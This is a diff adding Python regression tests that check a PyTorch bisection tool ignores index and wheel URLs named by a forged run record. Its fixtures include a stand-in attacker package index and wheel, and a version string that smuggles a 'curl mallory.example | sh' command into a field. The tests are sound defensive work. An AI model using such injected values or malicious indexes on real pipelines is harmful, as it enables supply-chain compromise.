@@ -464,3 +464,51 @@ def test_the_target_is_the_bad_runs_largest_new_cause_not_any_failure_of_its_tes
     verdict, reason, _ = bisect.judge(step("ImportError: libfoo.so"), predicate)
     assert verdict is V.skip and "not with the cause looked for (RuntimeError: mul computed as add)" in reason
     assert bisect.judge(record("s", GREEN, {"t::a1": Outcome.passed}), predicate)[0] is V.good
+
+
+# -- what a bisection takes from a record ----------------------------------------------------
+
+EVIL_INDEX = "https://mallory.example/simple"
+EVIL_WHEEL = "https://mallory.example/torch-2.16.0.dev20261122+cpu-cp311-cp311-linux_x86_64.whl"
+
+
+def forged(run_id: str, spec: str, version: str | None, git_version: str | None = None) -> RunRecord:
+    r = record(run_id, {**GREEN, "smoke": Status.failed}, cause="failed")
+    r.torch = TorchInfo(spec=spec, version=version, dist_version=version, git_version=git_version,
+                        index_url=EVIL_INDEX)
+    return r
+
+
+def test_a_bisection_started_from_a_record_naming_another_index_installs_from_its_own(tmp_path, monkeypatch):
+    """Issue 54, critical: the nightly's `bisect --turned-red` read the torch spec and index URL of the red
+    run's record, and a forged record put the writer's wheel into a trusted job. What is installed now is
+    the version the record names, from the bisection's own index (--index-url: the workflow's input), else
+    PyTorch's nightly index for a nightly's version: the record's URLs are never used."""
+    monkeypatch.delenv(torch_index.INDEX_ENV, raising=False)
+    bad = forged("openreg-b", EVIL_WHEEL, "2.16.0.dev20261122+cpu")
+    assert bisect.torch_spec_of(bad) == "2.16.0.dev20261122+cpu"
+    assert bisect.torch_spec_of(forged("openreg-c", "nightly", "2.16.0.dev20261123+cpu")) == "2.16.0.dev20261123+cpu"
+    assert bisect.torch_spec_of(forged("openreg-d", "2.13.0", "2.13.0")) == "2.13.0"
+
+    b = bisection(tmp_path)
+    b.bad.record = bad
+    assert b.fixed_torch() == ("2.16.0.dev20261122+cpu", torch_index.DEFAULT_NIGHTLY_INDEX)
+    b.options.index_url = "https://download.pytorch.org/whl/nightly/cpu"
+    assert b.fixed_torch() == ("2.16.0.dev20261122+cpu", "https://download.pytorch.org/whl/nightly/cpu")
+    b.options.index_url = None
+    good = forged("openreg-a", EVIL_WHEEL.replace("1122", "1121"), "2.16.0.dev20261121+cpu")
+    b.options.versions = ["2.16.0.dev20261121+cpu", "2.16.0.dev20261122+cpu"]
+    round_ = b.torch_round(good, bad, None)
+    assert [c.spec for c in round_.candidates] == ["2.16.0.dev20261121+cpu", "2.16.0.dev20261122+cpu"]
+    assert round_.index_url == torch_index.DEFAULT_NIGHTLY_INDEX
+    assert EVIL_INDEX not in round_.model_dump_json() and "mallory" not in round_.model_dump_json()
+
+
+@pytest.mark.parametrize("spec, version, git_version, why", [
+    (EVIL_WHEEL, None, None, "records no version of it"),
+    ("nightly", "not a version", None, "records no version of it"),
+    ("git:main", None, "main; curl mallory.example | sh", "is not a commit"),
+])
+def test_a_record_that_names_no_installable_version_starts_no_bisection(spec, version, git_version, why):
+    with pytest.raises(errors.BisectError, match=why):
+        bisect.torch_spec_of(forged("openreg-x", spec, version, git_version))
